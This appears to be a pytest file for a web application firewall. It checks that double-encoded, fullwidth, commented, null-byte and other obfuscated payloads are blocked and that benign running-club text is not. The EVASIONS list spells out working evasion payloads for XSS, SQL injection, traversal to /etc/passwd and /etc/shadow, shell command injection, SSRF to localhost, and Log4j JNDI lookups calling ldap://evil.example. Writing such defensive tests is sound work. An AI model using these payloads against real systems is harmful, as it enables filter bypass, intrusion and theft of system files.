"""Normalization: the encodings and spellings attackers use to slip past signatures are
undone before matching, and undoing them does not make benign runner text look hostile."""

from __future__ import annotations

import pytest
from waf_support import Case, decision, encode_query, place, rule_classes, send

pytest_plugins = ("waf_support",)

RULE_CLASS = rule_classes()

# (what the evasion is, attack class, value as the application receives it)
EVASIONS = [
    ("double URL-encoding", "xss", "%253Cscript%253Ealert(1)%253C/script%253E"),
    (
        "triple URL-encoding",
        "traversal",
        "%25252e%25252e%25252f%25252e%25252e%25252fetc%25252fpasswd",
    ),
    ("%u escapes", "xss", "%u003Cscript%u003Ealert(1)"),
    ("fullwidth %u escapes", "xss", "%uFF1Cscript%uFF1Ealert(1)"),
    ("fullwidth characters", "xss", "＜script＞alert(1)＜/script＞"),
    ("mixed case", "sqli", "1 UnIoN aLl SeLeCt password FrOm users"),
    ("inline comments", "sqli", "1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
    ("MySQL versioned comments", "sqli", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
    ("comments splitting keywords", "sqli", "1 UN/**/ION SEL/**/ECT 1,2"),
    ("tab for spaces", "sqli", "1'\tOR\t'1'='1"),
    ("vertical tab for spaces", "sqli", "1 union\x0bselect 1,2"),
    ("no-break space for spaces", "sqli", "1 union\u00a0select 1,2"),
    ("line breaks for spaces", "sqli", "1\r\nunion\r\nselect 1"),
    ("line comment and newline", "sqli", "1 union#x\nselect 1"),
    ("named HTML entities", "xss", '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>'),
    (
        "decimal entities, zero-padded, no semicolons",
        "xss",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
        '&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
    ),
    ("hex entities", "xss", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;"),
    ("tab inside the scheme", "xss", '<a href="java\tscript:alert(1)">x</a>'),
    ("JavaScript unicode escapes", "xss", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("null byte inside a tag", "xss", "<scr\x00ipt>alert(1)</script>"),
    ("null byte inside a keyword", "sqli", "1 un\x00ion sel\x00ect 1"),
    ("null byte before an extension", "traversal", "../../../etc/passwd\x00.png"),
    ("backslashes", "traversal", "..\\..\\..\\windows\\win.ini"),
    ("encoded backslashes", "traversal", "..%5c..%5c..%5cboot.ini"),
    ("Tomcat path parameters", "traversal", "/static/..;/..;/WEB-INF/web.xml"),
    ("overlong UTF-8", "traversal", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("3-byte overlong UTF-8", "traversal", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/shadow"),
    ("doubled dots", "traversal", "....//....//....//etc/hosts"),
    ("shell quoting", "cmdi", "127.0.0.1; w'h'o\"a\"m\\i"),
    ("shell variables", "cmdi", "x;c$@at${IFS}/etc$u/passwd"),
    ("brace expansion", "cmdi", "x;{cat,/etc/passwd}"),
    ("newline as a separator", "cmdi", "127.0.0.1\nid"),
    (
        "nested Log4j lookups",
        "jndi",
        "${${lower:j}${upper:n}${::-d}${env:X:-i}:ldap://evil.example/a}",
    ),
    (
        "Log4j lookup in unicode escapes",
        "jndi",
        "${\\u006a\\u006e\\u0064\\u0069:ldap://evil.example/a}",
    ),
    ("decimal IP address", "ssrf", "http://2130706433/"),
    ("octal IP address", "ssrf", "http://0177.0.0.1/"),
    ("credentials before the host", "ssrf", "http://runnerly.example@127.0.0.1:6379/"),
]

LOOK_ALIKES = [
    "Parkrun's 5k -- I <3 it",
    "select your best run from the list",
    "union of two loops, then select a pace",
    "100% effort; 0% regrets",
    "50%off race entry",
    "a+b=c",
    "C'est l'été, 12 km à 5'10\"",
    "1/2 marathon -- 21.1 km",
    "&amp; friends",
    "&lt;3 you",
    "wait... /what?",
    "Tempo -- 20' @ threshold",
    "跑步 10 公里 🏃",
    "Бег -- 10 км",
    "O'Neil & O'Brien's #parkrun",
    "\"quoted\" -- and 'single'",
    "and/or, etc.",
    "1 or 2 laps",
    "it's 5 > 3 km",
    "sleep (8h) matters",
    "http://localhost is my dev box",
]


@pytest.mark.parametrize(("what", "kind", "value"), EVASIONS, ids=[e[0] for e in EVASIONS])
@pytest.mark.parametrize("where", ["query", "json"])
def test_the_evasion_is_seen_through(waf, http, what, kind, value, where) -> None:
    place_as = "url" if kind == "ssrf" and where == "query" else where
    response = send(http, waf, place(kind, what, value, place_as))

    assert response.status_code == 403, what
    assert kind in {RULE_CLASS[rule] for rule in response.json()["rules"]}


def test_a_payload_in_the_raw_path_is_decoded_and_seen(waf, http) -> None:
    response = send(
        http, waf, Case("traversal", "path", path="/assets/..%252f..%252f..%252fetc%252fpasswd")
    )
    assert response.status_code == 403


def test_a_payload_in_a_parameter_name_is_seen(waf, http) -> None:
    case = Case(
        "xss", "name", path="/web/search", query=encode_query({"<svg onload=alert(1)>": "1"})
    )
    assert send(http, waf, case).status_code == 403


def test_a_payload_in_a_cookie_is_seen(waf, http) -> None:
    case = Case(
        "sqli", "cookie", path="/web/", headers={"Cookie": "theme=dark; sort=1'%20OR%20'1'%3D'1"}
    )
    assert send(http, waf, case).status_code == 403


@pytest.mark.parametrize("text", LOOK_ALIKES)
@pytest.mark.parametrize("where", ["query", "form", "json"])
def test_benign_text_is_not_made_hostile_by_normalization(waf, http, text, where) -> None:
    response = send(http, waf, place("benign", text, text, where))

    assert response.status_code == 200, response.text
    assert decision(response)["score"] == 0
